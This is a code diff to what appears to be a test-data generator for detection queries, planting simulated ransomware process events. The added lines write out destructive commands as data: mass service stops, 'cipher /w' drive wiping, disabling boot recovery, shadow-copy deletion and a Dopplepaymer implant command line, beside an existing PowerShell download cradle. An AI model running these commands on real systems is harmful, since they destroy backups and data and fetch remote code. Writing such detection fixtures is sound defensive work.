@@ -114,6 +114,9 @@ PROC = {
         ("rundll32.exe", SYS32),
         ("regsvr32.exe", SYS32),
         ("netsh.exe", SYS32),
+        ("cipher.exe", SYS32),
+        ("bcdedit.exe", SYS32),
+        ("vssadmin.exe", SYS32),
         ("wscript.exe", SYS32),
         ("svchost.exe", SYS32),
         ("mstsc.exe", SYS32),
@@ -132,6 +135,9 @@ DOWNLOAD_COMMAND = (
     "powershell.exe -nop -c \"(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\""
 )
 TASKKILL_BIN = NOW - timedelta(hours=6)  # a 2-minute bin start (NOW is on the hour)
+NET_STOP_BIN = NOW - timedelta(hours=2)
+CIPHER_MINUTE = NOW - timedelta(hours=3)
+DOPPLEPAYMER_COMMAND = "-q -s {{B5E5A6C1-33F2-4A4C-8E8F-1B2E3C4D5E6F}} -p 4242"
 
 # Fixed process identities where a query groups or joins on them
 SCANNER_PID, SCANNER_CREATED = 4242, NOW - timedelta(hours=3)
@@ -368,6 +374,18 @@ def plant_processes(w: World) -> None:
         w.process(
             base + timedelta(seconds=5 * i), ALICE, PROC["taskkill.exe"], f"taskkill.exe /f /im proc{i}.exe"
         )
+    # ransomware: 11 services stopped in one 2-minute bin, cipher wiping two drives in one minute,
+    # boot recovery off and shadow copies deleted: the consolidated query's signs on DB
+    for i in range(11):
+        w.process(NET_STOP_BIN + timedelta(seconds=5 * i), DB, PROC["net.exe"], f"net.exe stop svc{i}")
+    for drive in "CD":
+        w.process(CIPHER_MINUTE + timedelta(seconds=10), DB, PROC["cipher.exe"], f"cipher.exe /w:{drive}:\\")
+    w.process(
+        ago(hours=4, minutes=30), DB, PROC["bcdedit.exe"], "bcdedit.exe /set {default} recoveryenabled no"
+    )
+    w.process(ago(hours=4), DB, PROC["vssadmin.exe"], "vssadmin.exe delete shadows /all /quiet")
+    # the Dopplepaymer implant's command line
+    w.process(ago(days=3), BOB, PROC["rundll32.exe"], DOPPLEPAYMER_COMMAND)
     # ransomware: wmic shadowcopy delete; schtasks disabling System Restore from a bare rundll32
     w.process(
         ago(hours=5), DB, PROC["wmic.exe"], "wmic.exe shadowcopy delete /nointeractive", parent="cmd.exe"
